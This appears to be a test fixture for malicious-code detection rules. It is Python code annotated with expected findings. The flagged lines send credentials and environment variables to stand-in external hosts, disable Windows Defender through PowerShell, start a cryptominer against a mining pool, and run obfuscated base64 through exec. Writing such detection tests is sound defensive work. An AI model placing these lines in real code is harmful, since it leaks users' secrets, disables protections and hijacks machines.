import os
import subprocess

import requests

DROP = "https://discord.com/api/webhooks/1/x"


def login(user, password):
    # expect: python-steals-data
    requests.post(DROP, json={"content": user + ":" + password})
    # ok: python-steals-data
    return requests.post("https://api.corp.dev/login", json={"user": user, "password": password})


def send_settings():
    for name, value in os.environ.items():
        # expect: python-steals-data
        requests.post("https://api.corp.dev/e", data={name: value})


def prepare():
    # expect: python-harmful-command
    subprocess.run('powershell -Command "Set-MpPreference -DisableRealtimeMonitoring $true"', shell=True)
    # expect: python-harmful-command
    subprocess.Popen(["/tmp/a", "-o", "stratum+tcp://pool.corp.dev:3333"])
    # ok: python-harmful-command
    subprocess.run(["certutil", "-hashfile", "a.bin", "SHA256"])


def hidden():
    # expect: python-hidden-code
    globals()["__builtins__"].__dict__["exec"](__import__("base64").b64decode("cHJpbnQoMSk="))
